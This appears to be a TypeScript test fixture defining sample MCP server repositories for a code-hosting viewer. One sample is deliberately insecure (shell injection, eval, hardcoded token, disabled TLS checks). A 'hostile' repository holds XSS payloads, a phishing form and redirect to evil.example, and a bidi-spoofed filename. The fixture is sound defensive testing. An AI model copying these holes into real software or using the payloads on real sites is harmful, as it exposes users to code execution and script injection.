/**
 * Repositories for the pages: one with much to find, one with every kind of parameter and result,
 * and one that attacks whoever looks at it.
 *
 * @module
 */
import type { HostedRepository } from "../helpers/code_host.ts";

const LEAKY = `import subprocess

import requests
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("leaky")
TOKEN = "ghp_${"0123456789abcdefghijABCDEFGHIJ456789"}"


@mcp.tool()
def weather(city: str) -> str:
    """Tell the weather."""
    return subprocess.check_output("weather " + city, shell=True).decode()


@mcp.tool()
def fetch(url: str) -> str:
    """Fetch a page."""
    return requests.get(url, verify=False).text


@mcp.tool()
def calculate(expression: str) -> float:
    """Calculate."""
    return eval(expression)


if __name__ == "__main__":
    mcp.run()
`;

const KITCHEN = `"""Every kind of parameter and result."""

from typing import Annotated, Literal

from pydantic import BaseModel, Field

from mcp.server.fastmcp import Context, FastMCP
from mcp.types import AudioContent, ImageContent, TextContent

mcp = FastMCP("kitchen", instructions="Try everything")

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC"

WAV = "UklGRiwAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQgAAACAgICAgICAgA=="


@mcp.tool()
def order(
    dish: str,
    size: Literal["small", "medium", "large"] = "medium",
    portions: int = 1,
    spicy: bool = False,
    extras: list[str] = [],
    address: dict[str, str] = {},
) -> dict[str, object]:
    """Order a dish.

    All but the dish has a default.
    """
    return {"dish": dish, "size": size, "portions": portions, "spicy": spicy, "extras": extras}


class Guest(BaseModel):
    name: Annotated[str, Field(pattern="^[A-Z][a-z]+$")]
    age: Annotated[int, Field(ge=0, le=150)] = 30


@mcp.tool()
def reserve(
    day: Annotated[str, Field(json_schema_extra={"format": "date"}, description="The day")],
    table: Annotated[int, Field(ge=1, le=12)] | Literal["bar", "terrace"],
    guests: Annotated[list[Guest], Field(min_length=1, max_length=3)],
    note: str | None = None,
) -> str:
    """Reserve a table."""
    return f"{day}, {table}: {', '.join(f'{guest.name} ({guest.age})' for guest in guests)}"


@mcp.tool()
def picture() -> list[ImageContent | AudioContent | TextContent]:
    """A green square, and silence."""
    return [
        ImageContent(type="image", data=PNG, mimeType="image/png"),
        AudioContent(type="audio", data=WAV, mimeType="audio/wav"),
        TextContent(type="text", text="a green square"),
    ]


@mcp.tool()
async def cook(minutes: int, ctx: Context) -> str:
    """Cook, and tell how far it is."""
    for minute in range(minutes):
        await ctx.report_progress(minute + 1, minutes)
        await ctx.info(f"minute {minute + 1}")
    return "done"


@mcp.tool()
def burn() -> str:
    """Always fails."""
    raise ValueError("It burnt")


@mcp.tool()
def forever() -> str:
    """Never ends."""
    while True:
        pass


@mcp.tool()
def prices() -> list[TextContent]:
    """What things cost."""
    rows = '[{"dish": "soup", "euros": 5}, {"dish": "<b>bread</b>", "page": "https://example.com/"}]'
    return [TextContent(type="text", text=rows)]


@mcp.resource("menu://today", name="menu", description="What there is")
def menu() -> str:
    return "# Menu\\n\\n* soup"


@mcp.prompt()
def toast(guest: str, drink: str = "water") -> str:
    """Words for a guest."""
    return f"To {guest}, with {drink}"


if __name__ == "__main__":
    mcp.run()
`;

const README = `# Kitchen

Tools to try **everything**.

| tool | what |
| --- | --- |
| order | a dish |

- one
- two

\`\`\`python
order("soup")
\`\`\`

[More](https://example.com/more) ![A picture](https://example.com/track.png)
`;

const BIDI = "\u202egnp.exe\u202c";

const HOSTILE_README = `# Nice <script>window.hacked = "readme script"</script> server

<img src=x onerror="window.hacked='readme image'">
<svg onload="window.hacked='svg'"><script>window.hacked='svg script'</script></svg>
<iframe src="javascript:parent.hacked='frame'"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<a href="javascript:window.hacked='link'">click me</a>
[click me too](javascript:window.hacked='markdown link')
[data](data:text/html,<script>alert(1)</script>)
<div style="position:fixed;inset:0;background:red" id="main" class="alert">overlay</div>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
![tracker](https://evil.example/pixel.png)
<details open ontoggle="window.hacked='toggle'"><summary>x</summary></details>
${BIDI}

# Another first heading

${"word".repeat(3000)}
`;

const HOSTILE_PY = `from mcp.server.fastmcp import FastMCP
from mcp.types import TextContent

mcp = FastMCP("hostile", instructions="<script>window.hacked='instructions'</script>")


@mcp.tool(description="<img src=x onerror=window.hacked='description'> ${BIDI}")
def greet(name: str = "<script>window.hacked='default'</script>") -> str:
    print("<script>window.hacked='log'</script>")
    return "<script>window.hacked='result'</script><img src=x onerror=window.hacked='result'>" + name


@mcp.tool(name="<b>bold</b>")
def bold() -> dict[str, str]:
    return {"<script>": "</script><script>window.hacked='structured'</script>"}


@mcp.tool()
def flood() -> str:
    return "x" * 300_000


if __name__ == "__main__":
    mcp.run()
`;

/** Repositories that mean well, and badly made ones. */
const KEYED = `import os

import requests
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("keyed")
KEY = os.environ["API_KEY"]


@mcp.tool()
def ask(address: str) -> str:
    """Ask the service."""
    return requests.get(address, headers={"X-Key": KEY}, timeout=60).text


if __name__ == "__main__":
    mcp.run()
`;

export const REPOSITORIES: HostedRepository[] = [
  {
    owner: "examples",
    name: "keyed",
    files: { "server.py": KEYED, "README.md": "# Keyed\n", "LICENSE": "MIT License\n" },
  },
  {
    owner: "examples",
    name: "leaky",
    files: {
      "server.py": LEAKY,
      "requirements.txt": "requests==2.19.0\n",
      "README.md": "# Leaky\n\nDo not run this.\n",
      "LICENSE": "MIT License\n",
    },
  },
  {
    owner: "examples",
    name: "kitchen",
    files: {
      "server.py": KITCHEN,
      "README.md": README,
      "LICENSE": "MIT License\n",
      "pyproject.toml":
        '[project]\nname = "kitchen"\nversion = "2.1.0"\ndescription = "Every kind of parameter"\nlicense = "Apache-2.0"\n',
    },
  },
];

/** A repository that attacks. */
export const HOSTILE: HostedRepository = {
  owner: "examples",
  name: "hostile",
  files: { "server.py": HOSTILE_PY, "README.md": HOSTILE_README },
};
